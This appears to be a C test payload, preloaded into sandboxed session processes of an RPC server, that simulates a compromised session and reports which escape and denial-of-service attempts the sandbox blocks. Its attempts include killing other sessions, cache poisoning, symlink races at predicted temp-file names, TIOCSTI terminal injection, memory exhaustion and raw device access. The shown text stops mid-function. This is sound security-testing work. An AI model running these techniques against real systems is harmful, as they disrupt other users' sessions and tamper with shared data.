@@ -1,0 +1,941 @@
+/* The compromised-session payload (tests/compromise/compromise_e2e.py builds it with gcc and
+ * gives it to the server as LD_PRELOAD; session processes inherit it).
+ *
+ * It models an attacker who already runs code inside one session process once its sandbox is
+ * up, and reports what that code can reach. It does nothing unless
+ *   - the process is a session process (its argv has `--session-child`), and
+ *   - the session's client is the attacker: the peer of fd 0 (the client's socket, as the session
+ *     process starts) has the address in RPC_ATTACK_PEER (the harness connects the attacker from
+ *     127.0.0.2; bystanders come from 127.0.0.1), and
+ *   - RPC_ATTACK names a case.
+ * Then, at the first interposed libc call (write, writev, send*, recv*, read, poll, epoll_wait,
+ * nanosleep...) made once the sandbox is up (prctl(PR_GET_SECCOMP) == 2, i.e. the system-call
+ * filter is installed on the calling thread), it runs the case once and goes on into the real
+ * function (dlsym(RTLD_NEXT)). The `thread` case instead starts a thread in the constructor
+ * (before any sandbox), which waits for the filter and then acts.
+ *
+ * Every outcome is one line on stderr:
+ *   ATTACK <case> <step>: BLOCKED (<errno name>[; detail])
+ *   ATTACK <case> <step>: SUCCEEDED[ (detail)]
+ * plus `ATTACK-TRY <case> <step>` before a step that might get the process killed, `ATTACK-INFO
+ * <case> ...` notes, and `ATTACK-BEGIN <case>` / `ATTACK-END <case>` around the case.
+ *
+ * Environment (set by the harness on the server, inherited by sessions):
+ *   RPC_ATTACK            case: signal cache symlink terminal chmod flood thread memory devices net
+ *   RPC_ATTACK_PEER       attacker's client address (default 127.0.0.2)
+ *   RPC_ATTACK_CACHE_DIR  the server's --cache-dir
+ *   RPC_ATTACK_CANARY     a file outside the cache directory the harness watches
+ *   RPC_ATTACK_VICTIM_FILE  a file holding the pid of an idle bystander session (else /proc is scanned)
+ *   RPC_ATTACK_PORT       the front's listening port
+ *   RPC_ATTACK_MEM_LIMIT  bytes: the session's memory bound (memory case tries 256 MiB more)
+ *   RPC_ATTACK_FLOOD_BYTES  size of the unterminated line (default 512 MiB)
+ *   RPC_ATTACK_RSS_BOUND  bytes the front's peak RSS may grow by (default 64 MiB)
+ *   RPC_ATTACK_LINE_RATE  control lines per second the front may accept (default 10000)
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <dlfcn.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <pthread.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdatomic.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/epoll.h>
+#include <sys/ioctl.h>
+#include <sys/ipc.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/shm.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
+#include <sys/types.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <sys/xattr.h>
+#include <termios.h>
+#include <time.h>
+#include <unistd.h>
+
+#define MIB (1024ULL * 1024ULL)
+
+static int attacker;           /* this process is the attacker's session */
+static const char *attack_case = "";
+static atomic_int fired;       /* the case ran (or is running) */
+static __thread int in_payload; /* no re-entry from our own libc calls */
+
+/* ---------- output ---------- */
+
+static void say(const char *fmt, ...) {
+    char buf[2048];
+    va_list ap;
+    va_start(ap, fmt);
+    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
+    va_end(ap);
+    if (n < 0) return;
+    if (n > (int)sizeof buf - 2) n = sizeof buf - 2;
+    buf[n++] = '\n';
+    syscall(SYS_write, 2, buf, (size_t)n); /* never through our own hooks */
+}
+
+static const char *ename(int e) {
+    const char *s = strerrorname_np(e);
+    return s ? s : "E?";
+}
+
+/* r >= 0: SUCCEEDED; r < 0: BLOCKED with errno. */
+static void step(const char *st, long r, int err, const char *detail) {
+    if (r >= 0) {
+        if (detail && *detail) say("ATTACK %s %s: SUCCEEDED (%s)", attack_case, st, detail);
+        else say("ATTACK %s %s: SUCCEEDED", attack_case, st);
+    } else {
+        if (detail && *detail) say("ATTACK %s %s: BLOCKED (%s; %s)", attack_case, st, ename(err), detail);
+        else say("ATTACK %s %s: BLOCKED (%s)", attack_case, st, ename(err));
+    }
+}
+
+#define STEP(name, expr)                   \
+    do {                                   \
+        errno = 0;                         \
+        long r_ = (long)(expr);            \
+        step((name), r_ < 0 ? -1 : 0, errno, NULL); \
+    } while (0)
+
+static const char *env(const char *k, const char *dflt) {
+    const char *v = getenv(k);
+    return v && *v ? v : dflt;
+}
+
+static unsigned long long env_u64(const char *k, unsigned long long dflt) {
+    const char *v = getenv(k);
+    return v && *v ? strtoull(v, NULL, 0) : dflt;
+}
+
+/* ---------- who we are ---------- */
+
+static int is_session_child(void) {
+    char buf[65536];
+    int fd = (int)syscall(SYS_openat, AT_FDCWD, "/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return 0;
+    long n = syscall(SYS_read, fd, buf, sizeof buf - 1);
+    syscall(SYS_close, fd);
+    if (n <= 0) return 0;
+    for (long i = 0; i < n;) {
+        if (strcmp(buf + i, "--session-child") == 0) return 1;
+        i += (long)strlen(buf + i) + 1;
+    }
+    return 0;
+}
+
+static int peer_is_attacker(void) {
+    struct sockaddr_storage ss;
+    socklen_t len = sizeof ss;
+    if (getpeername(0, (struct sockaddr *)&ss, &len) != 0) return 0;
+    char host[INET6_ADDRSTRLEN] = "";
+    if (ss.ss_family == AF_INET)
+        inet_ntop(AF_INET, &((struct sockaddr_in *)&ss)->sin_addr, host, sizeof host);
+    else if (ss.ss_family == AF_INET6)
+        inet_ntop(AF_INET6, &((struct sockaddr_in6 *)&ss)->sin6_addr, host, sizeof host);
+    return strcmp(host, env("RPC_ATTACK_PEER", "127.0.0.2")) == 0;
+}
+
+/* The system-call filter is on the calling thread. */
+static int sandbox_up(void) {
+    return prctl(PR_GET_SECCOMP, 0, 0, 0, 0) == 2;
+}
+
+/* ---------- small helpers ---------- */
+
+static long read_file(const char *path, char *buf, size_t cap) {
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return -1;
+    size_t got = 0;
+    while (got < cap - 1) {
+        ssize_t n = read(fd, buf + got, cap - 1 - got);
+        if (n < 0) { int e = errno; close(fd); errno = e; return -1; }
+        if (n == 0) break;
+        got += (size_t)n;
+    }
+    close(fd);
+    buf[got] = 0;
+    return (long)got;
+}
+
+static long status_kib(pid_t pid, const char *field) {
+    char path[64], buf[8192];
+    snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
+    if (read_file(path, buf, sizeof buf) < 0) return -1;
+    char *p = strstr(buf, field);
+    if (!p) return -1;
+    return strtol(p + strlen(field) + 1, NULL, 10);
+}
+
+static int cmdline_has(pid_t pid, const char *word) {
+    char path[64], buf[65536];
+    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
+    long n = read_file(path, buf, sizeof buf);
+    for (long i = 0; i < n;) {
+        if (strcmp(buf + i, word) == 0) return 1;
+        i += (long)strlen(buf + i) + 1;
+    }
+    return 0;
+}
+
+/* Another session process: from the harness's file, else found through /proc. */
+static pid_t victim_pid(const char **how) {
+    char buf[64];
+    const char *f = getenv("RPC_ATTACK_VICTIM_FILE");
+    if (f && read_file(f, buf, sizeof buf) > 0 && atoi(buf) > 0) {
+        *how = "pid file";
+        return atoi(buf);
+    }
+    DIR *d = opendir("/proc");
+    pid_t found = 0;
+    if (d) {
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            pid_t p = atoi(e->d_name);
+            if (p > 0 && p != getpid() && cmdline_has(p, "--session-child")) { found = p; break; }
+        }
+        closedir(d);
+    }
+    *how = found ? "/proc scan" : "none";
+    return found;
+}
+
+static int is_hex16(const char *n) {
+    if (strlen(n) != 16) return 0;
+    for (int i = 0; i < 16; i++)
+        if (!((n[i] >= '0' && n[i] <= '9') || (n[i] >= 'a' && n[i] <= 'f'))) return 0;
+    return 1;
+}
+
+/* Entry names (16 hex digits) in the cache directory; returns how many (at most max). */
+static int cache_entries(const char *dir, char names[][17], int max) {
+    DIR *d = opendir(dir);
+    int n = 0;
+    if (!d) return -1;
+    struct dirent *e;
+    while ((e = readdir(d)) && n < max)
+        if (is_hex16(e->d_name)) { memcpy(names[n], e->d_name, 17); n++; }
+    closedir(d);
+    return n;
+}
+
+/* ---------- cases ---------- */
+
+static void case_signal(void) {
+    pid_t front = getppid();
+    const char *how;
+    pid_t victim = victim_pid(&how);
+    say("ATTACK-INFO signal front pid %d, bystander session pid %d (%s)", (int)front, (int)victim, how);
+    struct { const char *who; pid_t pid; } t[2] = {{"front", front}, {"session", victim}};
+    char name[128];
+    int reach[2] = {0, 0}; /* a method that reached the bystander: 1 kill, 2 tgkill, 3 pidfd */
+    int pidfds[2] = {-1, -1};
+    for (int i = 0; i < 2; i++) {
+        if (t[i].pid <= 0) { say("ATTACK-INFO signal no %s pid", t[i].who); continue; }
+        snprintf(name, sizeof name, "kill %s (signal 0)", t[i].who);
+        errno = 0; long r = kill(t[i].pid, 0); step(name, r, errno, NULL);
+        if (r == 0 && !reach[i]) reach[i] = 1;
+        snprintf(name, sizeof name, "tgkill %s (signal 0)", t[i].who);
+        errno = 0; r = syscall(SYS_tgkill, t[i].pid, t[i].pid, 0); step(name, r, errno, NULL);
+        if (r == 0 && !reach[i]) reach[i] = 2;
+        snprintf(name, sizeof name, "rt_sigqueueinfo %s (signal 0)", t[i].who);
+        siginfo_t si; memset(&si, 0, sizeof si); si.si_code = SI_QUEUE; si.si_pid = getpid(); si.si_uid = getuid();
+        errno = 0; r = syscall(SYS_rt_sigqueueinfo, t[i].pid, 0, &si); step(name, r, errno, NULL);
+        snprintf(name, sizeof name, "pidfd_open %s", t[i].who);
+        errno = 0; r = syscall(SYS_pidfd_open, t[i].pid, 0); step(name, r, errno, NULL);
+        pidfds[i] = (int)r;
+        if (r >= 0) {
+            snprintf(name, sizeof name, "pidfd_send_signal %s (signal 0)", t[i].who);
+            errno = 0; long r2 = syscall(SYS_pidfd_send_signal, pidfds[i], 0, NULL, 0); step(name, r2, errno, NULL);
+            if (r2 == 0 && !reach[i]) reach[i] = 3;
+        }
+        struct rlimit old;
+        snprintf(name, sizeof name, "prlimit64 read %s's RLIMIT_NOFILE", t[i].who);
+        errno = 0; r = prlimit(t[i].pid, RLIMIT_NOFILE, NULL, &old); step(name, r, errno, NULL);
+        snprintf(name, sizeof name, "prlimit64 set %s's RLIMIT_CORE (to its own value)", t[i].who);
+        struct rlimit core;
+        errno = 0; r = prlimit(t[i].pid, RLIMIT_CORE, NULL, &core);
+        if (r == 0) { errno = 0; r = prlimit(t[i].pid, RLIMIT_CORE, &core, NULL); }
+        step(name, r, errno, NULL);
+    }
+    /* The harm: end the bystander session with whatever reached it. */
+    if (victim > 0) {
+        long r = -1;
+        int e = EPERM;
+        const char *m = "no method reached it";
+        errno = 0;
+        if (reach[1] == 1) { r = kill(victim, SIGKILL); e = errno; m = "kill"; }
+        else if (reach[1] == 2) { r = syscall(SYS_tgkill, victim, victim, SIGKILL); e = errno; m = "tgkill"; }
+        else if (reach[1] == 3) { r = syscall(SYS_pidfd_send_signal, pidfds[1], SIGKILL, NULL, 0); e = errno; m = "pidfd_send_signal"; }
+        step("SIGKILL the bystander session", r, e, m);
+    }
+    for (int i = 0; i < 2; i++) if (pidfds[i] >= 0) close(pidfds[i]);
+}
+
+static void case_cache(void) {
+    const char *dir = getenv("RPC_ATTACK_CACHE_DIR");
+    if (!dir) { say("ATTACK-INFO cache no RPC_ATTACK_CACHE_DIR"); return; }
+    char names[64][17];
+    int n = cache_entries(dir, names, 64);
+    if (n < 0) { step("list the cache directory", -1, errno, NULL); return; }
+    say("ATTACK-INFO cache %d entries in %s", n, dir);
+    char path[4096], tmp[4096], line[256], vpath[4096];
+    snprintf(vpath, sizeof vpath, "%s/verified-entries", dir);
+    for (int i = 0; i < n; i++) {
+        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
+        struct stat st;
+        if (stat(path, &st) != 0) continue;
+        snprintf(tmp, sizeof tmp, "%s/.attack.%d", dir, (int)getpid());
+        char sname[128];
+        snprintf(sname, sizeof sname, "replace entry %s (%lld bytes of zeros)", names[i], (long long)st.st_size);
+        int fd = open(tmp, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
+        if (fd < 0) { step(sname, -1, errno, "create"); continue; }
+        long r = ftruncate(fd, st.st_size); /* a sparse file of zeros, the entry's size */
+        int e = errno;
+        close(fd);
+        if (r == 0) { r = rename(tmp, path); e = errno; }
+        if (r != 0) unlink(tmp);
+        step(sname, r, e, NULL);
+        if (r != 0) continue;
+        struct stat nst;
+        stat(path, &nst);
+        unsigned long long mt = (unsigned long long)nst.st_mtim.tv_sec * 1000000000ULL + (unsigned long long)nst.st_mtim.tv_nsec;
+        snprintf(line, sizeof line, "%s\t%lld\t%llu\t%llu\n", names[i], (long long)nst.st_size, mt,
+                 (unsigned long long)nst.st_ino);
+        snprintf(sname, sizeof sname, "append a verified-entries line for %s", names[i]);
+        fd = open(vpath, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
+        if (fd < 0) { step(sname, -1, errno, NULL); continue; }
+        struct stat vst;
+        fstat(fd, &vst);
+        if (vst.st_size == 0) { const char *m = "rpc-server verified-entries 1\n"; (void)!write(fd, m, strlen(m)); }
+        errno = 0;
+        r = write(fd, line, strlen(line));
+        e = errno;
+        close(fd);
+        step(sname, r, e, NULL);
+    }
+    /* A new entry named like another model's tensor, pre-verified. */
+    snprintf(path, sizeof path, "%s/%016llx", dir, 0x0123456789abcdefULL);
+    int fd = open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
+    if (fd < 0) step("plant a new entry 0123456789abcdef", -1, errno, NULL);
+    else {
+        long r = write(fd, "poison", 6);
+        close(fd);
+        step("plant a new entry 0123456789abcdef", r, errno, NULL);
+    }
+}
+
+static void case_symlink(void) {
+    const char *dir = getenv("RPC_ATTACK_CACHE_DIR");
+    const char *canary = getenv("RPC_ATTACK_CANARY");
+    if (!dir || !canary) { say("ATTACK-INFO symlink no cache dir or canary"); return; }
+    const int span = (int)env_u64("RPC_ATTACK_PID_SPAN", 3000);
+    char names[64][17];
+    int n = cache_entries(dir, names, 64);
+    say("ATTACK-INFO symlink %d entries; temp-name links for pids %d..%d", n < 0 ? 0 : n, (int)getpid() + 1, (int)getpid() + span);
+    char path[4096], sname[160], detail[64];
+    pid_t me = getpid();
+    /* Entry names: the next session that stores the entry writes `.<name>.tmp.<pid>` first. */
+    for (int i = 0; i < n; i++) {
+        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
+        snprintf(sname, sizeof sname, "delete entry %s", names[i]);
+        STEP(sname, unlink(path));
+        int made = 0, e = 0;
+        for (int p = me + 1; p <= me + span; p++) {
+            snprintf(path, sizeof path, "%s/.%s.tmp.%d", dir, names[i], p);
+            if (symlink(canary, path) == 0) made++; else e = errno;
+        }
+        snprintf(sname, sizeof sname, "plant temp-name links .%s.tmp.<pid> to the canary", names[i]);
+        snprintf(detail, sizeof detail, "%d of %d", made, span);
+        step(sname, made ? 0 : -1, e, detail);
+    }
+    /* A fake entry name pointing at the canary (a session would read it). */
+    snprintf(path, sizeof path, "%s/%016llx", dir, 0xfedcba9876543210ULL);
+    STEP("plant an entry-name link fedcba9876543210 to the canary", symlink(canary, path));
+    const char *fixed[] = {"verified-entries", "gguf-index"};
+    for (int i = 0; i < 2; i++) {
+        snprintf(path, sizeof path, "%s/%s", dir, fixed[i]);
+        unlink(path);
+        snprintf(sname, sizeof sname, "plant %s as a link to the canary", fixed[i]);
+        STEP(sname, symlink(canary, path));
+    }
+    const char *tmpfmt[] = {"%s/.verified-entries.tmp.%d", "%s/gguf-index.tmp.%d"};
+    const char *tmpname[] = {".verified-entries.tmp.<pid>", "gguf-index.tmp.<pid>"};
+    for (int i = 0; i < 2; i++) {
+        int made = 0, e = 0;
+        /* the front writes gguf-index (at its next start): its pid comes later than ours too */
+        for (int p = me + 1; p <= me + span; p++) {
+            snprintf(path, sizeof path, tmpfmt[i], dir, p);
+            if (symlink(canary, path) == 0) made++; else e = errno;
+        }
+        snprintf(sname, sizeof sname, "plant temp-name links %s to the canary", tmpname[i]);
+        snprintf(detail, sizeof detail, "%d of %d", made, span);
+        step(sname, made ? 0 : -1, e, detail);
+    }
+}
+
+static void case_terminal(void) {
+    char c = '#';
+    STEP("ioctl TIOCSTI on stderr", ioctl(2, TIOCSTI, &c));
+    char name[96];
+    int ttys = 0;
+    for (int fd = 0; fd < 1024; fd++) {
+        if (fd == 2 || !isatty(fd)) continue;
+        ttys++;
+        snprintf(name, sizeof name, "ioctl TIOCSTI on fd %d (a tty)", fd);
+        STEP(name, ioctl(fd, TIOCSTI, &c));
+    }
+    say("ATTACK-INFO terminal stderr is %sa tty; %d other tty fds", isatty(2) ? "" : "not ", ttys);
+    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
+    step("open /dev/tty", fd, errno, NULL);
+    if (fd >= 0) { STEP("ioctl TIOCSTI on /dev/tty", ioctl(fd, TIOCSTI, &c)); close(fd); }
+    char path[256];
+    if (isatty(2) && ttyname_r(2, path, sizeof path) == 0) {
+        fd = open(path, O_RDWR | O_CLOEXEC | O_NOCTTY);
+        snprintf(name, sizeof name, "open stderr's terminal %s by path", path);
+        step(name, fd, errno, NULL);
+        if (fd >= 0) close(fd);
+    }
+}
+
+static void case_chmod(void) {
+    const char *canary = getenv("RPC_ATTACK_CANARY");
+    const char *dir = getenv("RPC_ATTACK_CACHE_DIR");
+    if (!canary) { say("ATTACK-INFO chmod no canary"); return; }
+    STEP("chmod the canary 0666", chmod(canary, 0666));
+    STEP("chown the canary 65534:65534", chown(canary, 65534, 65534));
+    STEP("setxattr user.attack on the canary", setxattr(canary, "user.attack", "1", 1, 0));
+    struct timespec ts[2] = {{0, 0}, {0, 0}};
+    STEP("utimensat the canary to 1970", utimensat(AT_FDCWD, canary, ts, 0));
+    STEP("open the canary for writing", open(canary, O_WRONLY | O_CLOEXEC));
+    STEP("truncate the canary", truncate(canary, 1));
+    if (dir) {
+        char link_path[4096];
+        snprintf(link_path, sizeof link_path, "%s/attack-hardlink", dir);
+        errno = 0;
+        long r = link(canary, link_path);
+        step("hard-link the canary into the cache directory", r, errno, NULL);
+        if (r == 0) {
+            int fd = open(link_path, O_WRONLY | O_APPEND | O_CLOEXEC);
+            long w = fd < 0 ? -1 : write(fd, "pwned\n", 6);
+            step("write the canary through the hard link", w, errno, NULL);
+            if (fd >= 0) close(fd);
+        }
+    }
+}
+
+static double now_s(void) {
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+static long write_all(int fd, const char *b, size_t n) {
+    size_t done = 0;
+    while (done < n) {
+        long r = syscall(SYS_write, fd, b + done, n - done);
+        if (r < 0) { if (errno == EINTR) continue; return -1; }
+        done += (size_t)r;
+    }
+    return (long)done;
+}
+
+static void case_flood(void) {
+    pid_t front = getppid();
+    unsigned long long total = env_u64("RPC_ATTACK_FLOOD_BYTES", 512 * MIB);
+    unsigned long long bound = env_u64("RPC_ATTACK_RSS_BOUND", 64 * MIB);
+    double rate_bound = (double)env_u64("RPC_ATTACK_LINE_RATE", 10000);
+    long hwm0 = status_kib(front, "VmHWM:"), rss0 = status_kib(front, "VmRSS:");
+    say("ATTACK-INFO flood front pid %d VmRSS %ld KiB VmHWM %ld KiB before", (int)front, rss0, hwm0);
+    /* One line that never ends: "S 0 000...". A front that keeps it whole grows by its size. */
+    size_t chunk = 1 << 20;
+    char *buf = malloc(chunk);
+    memset(buf, '0', chunk);
+    unsigned long long sent = 0;
+    int e = 0;
+    long r = write_all(1, "S 0 ", 4);
+    if (r < 0) e = errno;
+    double t0 = now_s();
+    while (r >= 0 && sent < total) {
+        size_t n = total - sent < chunk ? (size_t)(total - sent) : chunk;
+        r = write_all(1, buf, n);
+        if (r < 0) { e = errno; break; }
+        sent += n;
+    }
+    double dt = now_s() - t0;
+    long hwm1 = status_kib(front, "VmHWM:");
+    char detail[200];
+    long grown = hwm0 >= 0 && hwm1 >= 0 ? (hwm1 - hwm0) / 1024 : -1;
+    snprintf(detail, sizeof detail, "%llu MiB accepted in %.1f s; front VmHWM +%ld MiB, bound %llu MiB",
+             sent / MIB, dt, grown, bound / MIB);
+    if (r < 0) step("unterminated 512 MiB line on the control channel", -1, e, detail);
+    else if (grown < 0) step("unterminated 512 MiB line on the control channel", 0, 0, detail);
+    else step("unterminated 512 MiB line on the control channel", grown * MIB > bound ? 0 : -1, EDQUOT, detail);
+    /* End it (zeros parse as a counter delta of 0: the front logs nothing for it). */
+    write_all(1, "\n", 1);
+    free(buf);
+    /* Many short lines (valid ones, no log line each), for 3 s. */
+    static const char lines[] = "S 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\nS 0\n";
+    unsigned long long count = 0;
+    t0 = now_s();
+    e = 0;
+    r = 0;
+    while (now_s() - t0 < 3.0) {
+        r = write_all(1, lines, sizeof lines - 1);
+        if (r < 0) { e = errno; break; }
+        count += 16;
+    }
+    dt = now_s() - t0;
+    double rate = (double)count / (dt > 0 ? dt : 1);
+    snprintf(detail, sizeof detail, "%llu lines in %.1f s = %.0f/s, bound %.0f/s", count, dt, rate, rate_bound);
+    if (r < 0) step("valid control lines as fast as possible", -1, e, detail);
+    else step("valid control lines as fast as possible", rate > rate_bound ? 0 : -1, EDQUOT, detail);
+    /* Junk lines: each one the front cannot parse (a front that logs each fills its log). */
+    count = 0;
+    t0 = now_s();
+    e = 0;
+    r = 0;
+    static const char junk[] = "X junk from a compromised session\n";
+    while (now_s() - t0 < 1.0 && count < 200000) {
+        r = write_all(1, junk, sizeof junk - 1);
+        if (r < 0) { e = errno; break; }
+        count++;
+    }
+    dt = now_s() - t0;
+    rate = (double)count / (dt > 0 ? dt : 1);
+    snprintf(detail, sizeof detail, "%llu junk lines in %.1f s = %.0f/s, bound %.0f/s", count, dt, rate, rate_bound);
+    if (r < 0) step("junk control lines as fast as possible", -1, e, detail);
+    else step("junk control lines as fast as possible", rate > rate_bound ? 0 : -1, EDQUOT, detail);
+    long hwm2 = status_kib(front, "VmHWM:"), rss2 = status_kib(front, "VmRSS:");
+    say("ATTACK-INFO flood front VmRSS %ld KiB VmHWM %ld KiB after", rss2, hwm2);
+}
+
+/* ----- memory ----- */
+
+static sigjmp_buf touch_jmp;
+static volatile sig_atomic_t touching;
+static void on_bus(int sig) {
+    (void)sig;
+    if (touching) siglongjmp(touch_jmp, 1);
+}
+
+/* Writes a byte per page of [p, p+len); returns the bytes touched before a SIGBUS/SIGSEGV. */
+static unsigned long long touch(char *p, unsigned long long len_) {
+    volatile unsigned long long len = len_;
+    struct sigaction sa, old_bus, old_segv;
+    memset(&sa, 0, sizeof sa);
+    sa.sa_handler = on_bus;
+    sigemptyset(&sa.sa_mask);
+    sigaction(SIGBUS, &sa, &old_bus);
+    sigaction(SIGSEGV, &sa, &old_segv);
+    volatile unsigned long long done = 0;
+    if (sigsetjmp(touch_jmp, 1) == 0) {
+        touching = 1;
+        for (unsigned long long off = 0; off < len; off += 4096) {
+            p[off] = 1;
+            done = off + 4096;
+        }
+    }
+    touching = 0;
+    sigaction(SIGBUS, &old_bus, NULL);
+    sigaction(SIGSEGV, &old_segv, NULL);
+    return done > len ? len : done;
+}
+
+static void mem_report(const char *st, unsigned long long got, unsigned long long limit, int e) {
+    char detail[160];
+    snprintf(detail, sizeof detail, "%llu MiB resident of %llu MiB tried, limit %llu MiB", got / MIB,
+             (limit + 256 * MIB) / MIB, limit / MIB);
+    step(st, got > limit ? 0 : -1, e ? e : ENOMEM, detail);
+}
+
+static void case_memory(void) {
+    unsigned long long limit = env_u64("RPC_ATTACK_MEM_LIMIT", 256 * MIB);
+    unsigned long long want = limit + 256 * MIB;
+    say("ATTACK-INFO memory limit %llu MiB, trying %llu MiB per method", limit / MIB, want / MIB);
+    /* memfd_create + write */
+    say("ATTACK-TRY memory memfd_create + write");
+    int fd = (int)syscall(SYS_memfd_create, "attack", 0);
+    if (fd < 0) step("memfd_create + write", -1, errno, NULL);
+    else {
+        size_t chunk = 8 * MIB;
+        char *b = malloc(chunk);
+        memset(b, 1, chunk);
+        unsigned long long got = 0;
+        int e = 0;
+        while (got < want) {
+            long r = syscall(SYS_write, fd, b, chunk);
+            if (r <= 0) { e = r < 0 ? errno : ENOSPC; break; }
+            got += (unsigned long long)r;
+        }
+        free(b);
+        mem_report("memfd_create + write", got, limit, e);
+        close(fd);
+    }
+    /* mmap MAP_SHARED|MAP_ANONYMOUS, touched */
+    say("ATTACK-TRY memory mmap MAP_SHARED|MAP_ANONYMOUS + touch");
+    char *p = mmap(NULL, want, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+    if (p == MAP_FAILED) step("mmap MAP_SHARED|MAP_ANONYMOUS + touch", -1, errno, NULL);
+    else {
+        mem_report("mmap MAP_SHARED|MAP_ANONYMOUS + touch", touch(p, want), limit, 0);
+        munmap(p, want);
+    }
+    /* shm_open (/dev/shm) */
+    say("ATTACK-TRY memory shm_open + mmap + touch");
+    char nm[64];
+    snprintf(nm, sizeof nm, "/rpc-attack-%d", (int)getpid());
+    fd = shm_open(nm, O_CREAT | O_RDWR | O_EXCL, 0600);
+    if (fd < 0) step("shm_open + mmap + touch", -1, errno, NULL);
+    else {
+        if (ftruncate(fd, (off_t)want) != 0) step("shm_open + mmap + touch", -1, errno, "ftruncate");
+        else {
+            p = mmap(NULL, want, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+            if (p == MAP_FAILED) step("shm_open + mmap + touch", -1, errno, "mmap");
+            else {
+                mem_report("shm_open + mmap + touch", touch(p, want), limit, 0);
+                munmap(p, want);
+            }
+        }
+        close(fd);
+        shm_unlink(nm);
+    }
+    /* SysV shmget */
+    say("ATTACK-TRY memory shmget + shmat + touch");
+    int id = shmget(IPC_PRIVATE, want, IPC_CREAT | 0600);
+    if (id < 0) step("shmget + shmat + touch", -1, errno, NULL);
+    else {
+        p = shmat(id, NULL, 0);
+        if (p == (void *)-1) step("shmget + shmat + touch", -1, errno, "shmat");
+        else {
+            mem_report("shmget + shmat + touch", touch(p, want), limit, 0);
+            shmdt(p);
+        }
+        shmctl(id, IPC_RMID, NULL);
+    }
+    /* Private anonymous memory (what RLIMIT_DATA bounds) */
+    say("ATTACK-TRY memory mmap MAP_PRIVATE|MAP_ANONYMOUS + touch");
+    p = mmap(NULL, want, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    if (p == MAP_FAILED) step("mmap MAP_PRIVATE|MAP_ANONYMOUS + touch", -1, errno, NULL);
+    else {
+        mem_report("mmap MAP_PRIVATE|MAP_ANONYMOUS + touch", touch(p, want), limit, 0);
+        munmap(p, want);
+    }
+}
+
+static void case_devices(void) {
+    static const char *devs[] = {"/dev/kvm", "/dev/fuse", "/dev/tty1", "/dev/tty0", "/dev/console",
+                                 "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sda",
+                                 "/dev/vda", "/dev/xvda", "/dev/nvme0n1", "/dev/nvme0", "/dev/loop0",
+                                 "/dev/net/tun", "/dev/uinput", "/dev/dri/card0", "/dev/vhost-net",
+                                 "/dev/ptmx", NULL};
+    char name[128];
+    for (int i = 0; devs[i]; i++) {
+        struct stat st;
+        if (stat(devs[i], &st) != 0) {
+            say("ATTACK-INFO devices %s: absent (%s)", devs[i], ename(errno));
+            continue;
+        }
+        snprintf(name, sizeof name, "open %s read-write", devs[i]);
+        errno = 0;
+        int fd = open(devs[i], O_RDWR | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
+        step(name, fd, errno, NULL);
+        if (fd < 0) {
+            snprintf(name, sizeof name, "open %s read-only", devs[i]);
+            errno = 0;
+            fd = open(devs[i], O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
+            step(name, fd, errno, NULL);
+        }
+        if (fd >= 0 && S_ISBLK(st.st_mode)) {
+            char b[512];
+            snprintf(name, sizeof name, "read the first sector of %s", devs[i]);
+            errno = 0;
+            step(name, pread(fd, b, sizeof b, 0), errno, NULL);
+        }
+        if (fd >= 0) close(fd);
+    }
+    /* A file in /dev/shm: a channel to other sessions and to everything else on the host. */
+    char path[128];
+    snprintf(path, sizeof path, "/dev/shm/rpc-attack-%d", (int)getpid());
+    errno = 0;
+    int fd = open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0666);
+    step("create a file in /dev/shm", fd, errno, NULL);
+    if (fd >= 0) { close(fd); unlink(path); }
+    snprintf(path, sizeof path, "/dev/shm/rpc-attack-node-%d", (int)getpid());
+    errno = 0;
+    long r = mknod(path, S_IFCHR | 0600, makedev(1, 1));
+    step("mknod a /dev/mem node in /dev/shm", r, errno, NULL);
+    if (r == 0) unlink(path);
+}
+
+static void case_net(void) {
+    int port = (int)env_u64("RPC_ATTACK_PORT", 0);
+    pid_t front = getppid();
+    errno = 0;
+    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    step("socket(AF_INET, SOCK_STREAM)", s, errno, NULL);
+    if (s >= 0) {
+        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
+        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+        char name[96];
+        snprintf(name, sizeof name, "connect to the front's port 127.0.0.1:%d", port);
+        STEP(name, connect(s, (struct sockaddr *)&a, sizeof a));
+        close(s);
+    }
+    errno = 0;
